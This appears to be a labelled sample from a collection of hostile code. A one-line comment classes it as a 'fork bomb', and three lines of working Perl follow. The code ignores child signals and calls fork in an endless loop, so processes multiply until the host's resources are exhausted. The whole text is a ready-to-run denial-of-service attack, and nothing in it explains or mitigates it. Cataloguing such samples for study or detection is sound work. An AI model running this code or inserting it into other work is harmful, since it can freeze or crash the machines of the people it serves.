# class: fork bomb; possible: low medium
$SIG{CHLD} = 'IGNORE';
while (1) { my $p = fork; select(undef, undef, undef, 0.002) unless defined $p; }
